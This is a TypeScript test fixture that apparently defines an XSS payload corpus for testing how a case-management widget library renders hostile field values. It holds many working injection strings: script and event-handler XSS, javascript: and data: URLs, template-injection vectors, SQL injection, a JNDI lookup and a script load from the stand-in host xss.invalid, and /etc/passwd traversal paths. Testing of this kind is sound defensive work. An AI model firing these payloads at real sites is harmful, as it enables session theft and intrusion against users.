/**
 * Hostile text for every field a case, a contact and a comment can hold. A
 * payload that runs calls `__xss(n)` or `alert(…)`, which the test page
 * records (see hostile-page.ts). Collected from the usual cheat sheets (OWASP,
 * PortSwigger, the HTML5 Security Cheatsheet) and from Casekit's own
 * surroundings: Lit's template markers, the tags the widgets render into,
 * template syntax of the CMSs a municipality might paste them into.
 *
 * Rules for the corpus: no NUL (the API refuses it, tested server-side), no
 * lone surrogates, and no payload starting with a list bullet ("- ", "* ")
 * or made of dashes and dots only (the case page turns those into lists or
 * leaves them out, on purpose).
 */

const scriptTags = [
  '<script>__xss(1)</script>',
  '<script>alert(1)</script>',
  '<SCRIPT>__xss(2)</SCRIPT>',
  '<ScRiPt>__xss(3)</sCrIpT>',
  '<script src=//xss.invalid/x.js></script>',
  '<script src="data:text/javascript,__xss(4)"></script>',
  '<script type="module">__xss(5)</script>',
  '<script/x>__xss(6)</script>',
  '<script\t>__xss(7)</script>',
  '<scr<script>ipt>__xss(8)</scr</script>ipt>',
  '"><script>__xss(9)</script>',
  "'><script>__xss(10)</script>",
  '</script><script>__xss(11)</script>',
  '<script>/*</script><script>*/__xss(12)</script>',
  '<<script>__xss(13);//<</script>',
  '<script>document.write("<img src=x onerror=__xss(14)>")</script>',
  '<script>eval(atob("X194c3MoMTUp"))</script>',
  '<script>setTimeout("__xss(16)")</script>',
  '<script>\n__xss(17)\n</script>',
  '<script nonce="">__xss(18)</script>',
];

const eventHandlers = [
  '<img src=x onerror=__xss(20)>',
  '<img src="x" onerror="__xss(21)">',
  '<IMG SRC=x OnErRoR=__xss(22)>',
  '<img/src/onerror=__xss(23)>',
  '<img src=x onerror=alert`24`>',
  '<img src=x:y onerror="&#95;&#95;xss(25)">',
  '<img src=x onerror=&#x5f;&#x5f;xss(26)>',
  '<img srcset=",,,,,x" onerror=__xss(27)>',
  '<svg onload=__xss(28)>',
  '<svg/onload=__xss(29)>',
  '<body onload=__xss(30)>',
  '<iframe onload=__xss(31)>',
  '<input autofocus onfocus=__xss(32)>',
  '<select autofocus onfocus=__xss(33)>',
  '<textarea autofocus onfocus=__xss(34)>',
  '<details open ontoggle=__xss(35)>',
  '<video><source onerror=__xss(36)>',
  '<audio src=x onerror=__xss(37)>',
  '<marquee onstart=__xss(38)>x</marquee>',
  '<div onmouseover=__xss(39)>hover</div>',
  '<a onclick=__xss(40)>klik</a>',
  '<style onload=__xss(41)></style>',
  '<object data=x onerror=__xss(42)>',
  '<image src=x onerror=__xss(43)>',
  '<img src=x onerror=\u2028__xss(44)>',
  '<body onpageshow=__xss(45)>',
  '<div onpointerenter=__xss(46) style="position:fixed;inset:0">',
  '<img src onerror=__xss(47) x>',
  '<img src=`x`onerror=__xss(48)>',
  '<svg><animate onbegin=__xss(49) attributeName=x dur=1s>',
];

const urlSchemes = [
  'javascript:__xss(50)',
  'JaVaScRiPt:__xss(51)',
  ' javascript:__xss(52)',
  'java\tscript:__xss(53)',
  'java&#x09;script:__xss(54)',
  '&#106;avascript:__xss(55)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss(56)',
  '%6A%61%76%61%73%63%72%69%70%74:__xss(57)',
  'javascript&colon;__xss(58)',
  'javascript://%0a__xss(59)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:text/html,<script>__xss(61)</script>',
  'data:image/svg+xml,<svg onload=__xss(62)>',
  'vbscript:msgbox(63)',
  'VBScript:__xss(64)',
  'livescript:__xss(65)',
  '<a href="javascript:__xss(66)">link</a>',
  '<a href=" &#14;  javascript:__xss(67)">link</a>',
  '<iframe src="javascript:__xss(68)">',
  '<iframe srcdoc="&lt;script&gt;parent.__xss(69)&lt;/script&gt;">',
  '<form action=javascript:__xss(70)><button>send</button></form>',
  '<button formaction=javascript:__xss(71)>x</button>',
  '<object data="javascript:__xss(72)">',
  '<embed src="data:text/html,<script>__xss(73)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(74)">',
  '<base href="javascript:__xss(75)//">',
  '<link rel=stylesheet href="javascript:__xss(76)">',
  'https://example.dk/"onmouseover="__xss(77)',
  'https://example.dk/<script>__xss(78)</script>',
  'http://example.dk/?q=<img src=x onerror=__xss(79)>',
];

const svgAndMathMl = [
  '<svg><script>__xss(80)</script></svg>',
  '<svg><script href="data:,__xss(81)"></script></svg>',
  '<svg><a xlink:href="javascript:__xss(82)"><text x="20" y="20">x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:__xss(83) /><text x=20 y=20>x</text></a></svg>',
  '<svg><set attributeName=href to=javascript:__xss(84)>',
  '<svg><foreignObject><img src=x onerror=__xss(85)></foreignObject></svg>',
  '<svg><style><img src=x onerror=__xss(86)></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=__xss(87)/></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(88)>',
  '<math href="javascript:__xss(89)">x</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:__xss(90)">x</maction></math>',
  '<math><mi xlink:href="data:x,<script>__xss(91)</script>">x</mi></math>',
  '<svg><title><![CDATA[</title><img src=x onerror=__xss(92)>]]></svg>',
  '<svg><desc><img src=x onerror=__xss(93)></desc></svg>',
  '<svg><handler type="text/javascript">__xss(94)</handler></svg>',
];

const attributeBreaking = [
  '" onmouseover="__xss(100)',
  "' onfocus='__xss(101)' autofocus='",
  '"><img src=x onerror=__xss(102)>',
  "'><svg onload=__xss(103)>",
  '` onmouseover=__xss(104) `',
  '" autofocus onfocus=__xss(105) x="',
  '" style="background:url(javascript:__xss(106))',
  '"/><script>__xss(107)</script>',
  'x" id="title',
  '" part="link" href="javascript:__xss(109)',
  '" slot="heading',
  '"><ck-contact-box email="javascript:__xss(111)"></ck-contact-box>',
  '\' ><a href="javascript:__xss(112)">',
  '"\'`><img src=x onerror=__xss(113)>',
  '= onerror=__xss(114) ',
];

const templateAndEntityTricks = [
  '&lt;script&gt;__xss(120)&lt;/script&gt;',
  '&#60;script&#62;__xss(121)&#60;/script&#62;',
  '\\u003cscript\\u003e__xss(122)\\u003c/script\\u003e',
  '%3Cscript%3E__xss(123)%3C%2Fscript%3E',
  '<template><script>__xss(124)</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=__xss(125)></template>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(126)>">',
  '<!--<img src="--><img src=x onerror=__xss(127)//">',
  '<![CDATA[<script>__xss(128)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=__xss(129)>">',
  '<noembed><img title="</noembed><img src=x onerror=__xss(130)>">',
  '<plaintext><script>__xss(131)</script>',
  '<style>@import "javascript:__xss(132)";</style>',
  '<div style="width:expression(__xss(133))">',
  '<style>*{display:none!important}</style>',
  '&amp;lt;img src=x onerror=__xss(135)&amp;gt;',
  '&quot;&gt;&lt;script&gt;__xss(136)&lt;/script&gt;',
  '\\x3cscript\\x3e__xss(137)\\x3c/script\\x3e',
  '<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-__xss(138)+ADw-/script+AD4-">',
  '+ADw-script+AD4-__xss(139)+ADw-/script+AD4-',
];

const templateInjection = [
  "{{constructor.constructor('__xss(140)')()}}",
  '${__xss(141)}',
  '#{__xss(142)}',
  '<%= __xss(143) %>',
  '{{7*7}}',
  '[[__xss(145)]]',
  "{{$on.constructor('__xss(146)')()}}",
  '${{__xss(147)}}',
  '@{__xss(148)}',
  '{{{__xss(149)}}}',
  '{% raw %}{{__xss(150)}}{% endraw %}',
  '<div v-html="\'<img src=x onerror=__xss(151)>\'"></div>',
  '{{= __xss(152) }}',
  '*{__xss(153)}',
  '${`${__xss(154)}`}',
  '${this.constructor.constructor("__xss(155)")()}',
  "{{_c.constructor('__xss(156)')()}}",
  '<div x-data x-init="__xss(157)"></div>',
  '<div ng-app ng-csp><input autofocus ng-focus="$event.view.__xss(158)"></div>',
  '{{#with "s" as |string|}}{{string.constructor "__xss(159)"}}{{/with}}',
];

const litMarkers = [
  '<!--?lit$123$-->',
  'lit$123$',
  '<?lit$1234$>',
  '<!--?lit$0$--><img src=x onerror=__xss(163)>',
  '$lit$',
  'lit$1234567890$<!--?lit$1234567890$-->',
  '<!---->',
  '<!--?-->',
  '<!--',
  '-->',
  '<?xml version="1.0"?><x onload="__xss(170)"/>',
  '?lit$0$ onerror=__xss(171)',
  '<!--?lit$123$--><script>__xss(172)</script><!--?lit$123$-->',
  '</ck-case-card><script>__xss(173)</script>',
];

const closingTags = [
  '</textarea><img src=x onerror=__xss(180)>',
  '</textarea><script>__xss(181)</script>',
  '</title><script>__xss(182)</script>',
  '</style><img src=x onerror=__xss(183)>',
  '</select><img src=x onerror=__xss(184)>',
  '</option></select><svg onload=__xss(185)>',
  '</noscript><img src=x onerror=__xss(186)>',
  '</iframe><img src=x onerror=__xss(187)>',
  '</template><img src=x onerror=__xss(188)>',
  '</slot><slot name="heading"></slot>',
  '</address><img src=x onerror=__xss(190)>',
  '</li></ul><img src=x onerror=__xss(191)>',
  '</p></article><img src=x onerror=__xss(192)>',
  '<ck-case-card case-id="x" href-template="javascript:__xss(193)"></ck-case-card>',
  '<slot></slot>',
];

const unicode = [
  '＜script＞__xss(200)＜/script＞',
  '‹script›__xss(201)‹/script›',
  '<ſcript>__xss(202)</ſcript>',
  'ＪａｖａＳｃｒｉｐｔ：__xss(203)',
  '\u202E>tpircs/<)402(ssx__>tpircs<',
  '\u2066<img src=x onerror=__xss(205)>\u2069',
  'java\u200Bscript:__xss(206)',
  '\uFEFF<script>__xss(207)</script>',
  '\u200F<svg onload=__xss(208)>\u200E',
  's̷c̷r̷i̷p̷t̷ __xss(209)',
  'јаvаѕсrірt:__xss(210)',
  '\u2028javascript:__xss(211)\u2029',
  '<scrİpt>__xss(212)</scrİpt>',
  'Ærø Ålborg Øster — “citat” ‘enkelt’ … \u00A0hårdt mellemrum',
  '👩‍👩‍👧‍👦 <img src=x onerror=__xss(214)> 🇩🇰',
  '\u061C\u202B<b onmouseover=__xss(215)>\u202C',
  '𝓳𝓪𝓿𝓪𝓼𝓬𝓻𝓲𝓹𝓽:__xss(216)',
  '\u3008script\u3009__xss(217)\u3008/script\u3009',
  '\uFF1Cimg src=x onerror=__xss(218)\uFF1E',
  'A\u0001\u0008\u001F<img src=x onerror=__xss(219)>',
];

const quotesAndPolyglots = [
  '"\'><img src=x onerror=__xss(220)>',
  "'';!--\"<XSS>=&{()}",
  '"\\"\'\\\'><script>__xss(222)</script>',
  '`"\'><svg/onload=__xss(223)>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=__xss(224) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss(224)//>\\x3e',
  '\'">><marquee><img src=x onerror=__xss(225)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=__xss(225)>',
  '"><<img src=x onerror=__xss(226)>',
  "'\"()&%<acx><ScRiPt >__xss(227)</ScRiPt>",
  '"><svg><script>__xss&#40;228&#41;</script>',
  '\\"};__xss(229);//',
  "';__xss(230);//",
  '</script>"><img src=x onerror=__xss(231)>',
  '<a href="&#1;javascript:__xss(232)">x</a>',
  '<a href="javas&Tab;cript:__xss(233)">x</a>',
  '<a href="&#x6a;avascript&#x3a;__xss(234)">x</a>',
];

const clobberingAndStyle = [
  '<form id=__xss><input name=attributes></form>',
  '<img name=getElementById>',
  '<a id=defaultView name=defaultView></a>',
  '<input id=__proto__>',
  '<div style="background-image:url(javascript:__xss(244))">',
  '<style>body{background:url("javascript:__xss(245)")}</style>',
  '<link rel=import href="data:text/html,<script>__xss(246)</script>">',
  '<div popover id=p onbeforetoggle=__xss(247)>x</div>',
  '<dialog open onclose=__xss(248)><form method=dialog><button>x</button></form></dialog>',
  '<portal src=javascript:__xss(249)>',
];

const protocolsAndPaths = [
  'file:///etc/passwd',
  '//xss.invalid/x',
  '\\\\xss.invalid\\x',
  'about:blank',
  'blob:https://xss.invalid/1',
  '../../../../etc/passwd',
  'mailto:x@xss.invalid?body=<script>__xss(256)</script>',
  'tel:+45<script>__xss(257)</script>',
  'mocha:__xss(258)',
  'jar:https://xss.invalid/x!/',
  'ms-its:mhtml:file://C:/x.mht!https://xss.invalid/x',
  'x-javascript:__xss(261)',
];

const plainButHostile = [
  'Robert"); DROP TABLE comments;--',
  "1' OR '1'='1",
  '{"__proto__":{"polluted":true}}',
  '%s%s%s%s%n',
  '../../etc/passwd%00.png',
  '${jndi:ldap://xss.invalid/a}',
  'constructor',
  '__proto__',
  'undefined',
  'null',
  '[object Object]',
  'NaN',
];

/** Every payload, in a stable order. */
export const XSS_PAYLOADS: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...urlSchemes,
  ...svgAndMathMl,
  ...attributeBreaking,
  ...templateAndEntityTricks,
  ...templateInjection,
  ...litMarkers,
  ...closingTags,
  ...unicode,
  ...quotesAndPolyglots,
  ...clobberingAndStyle,
  ...protocolsAndPaths,
  ...plainButHostile,
];

/** Addresses for link fields (a material's `url`) that are not http(s): the API refuses every one (test/server/abuse-input.test.ts). */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:__xss(300)',
  'JAVASCRIPT:__xss(301)',
  'javascript://example.dk/%0a__xss(302)',
  'data:text/html,<script>__xss(303)</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygzMDQpPC9zY3JpcHQ+',
  'vbscript:msgbox(305)',
  'javascript:__xss(306)//https://example.dk/',
  'data:application/pdf,%PDF-1.4',
];

/** Phone numbers with digits around hostile text: shown as typed, linked as `tel:` digits only. */
export const HOSTILE_PHONES: readonly string[] = [
  '+45 "><svg onload=__xss(310)>',
  '123 <img src=x onerror=__xss(311)>',
  '00 45 javascript:__xss(312)',
  "9 ' onfocus='__xss(313)",
  '+1 <script>__xss(314)</script>',
];

/**
 * http(s) addresses that try to break out of an attribute or smuggle a script: the API stores
 * these (they are http(s)); the widgets must still link them harmlessly.
 */
export const HOSTILE_HTTP_URLS: readonly string[] = [
  "https://example.dk/'onmouseover='__xss(321)'",
  'https://example.dk/#javascript:__xss(322)',
  'https://example.dk/?x=<img/src=x/onerror=__xss(323)>',
  'https://example.dk/%22%3E%3Cscript%3E__xss(324)%3C/script%3E',
];
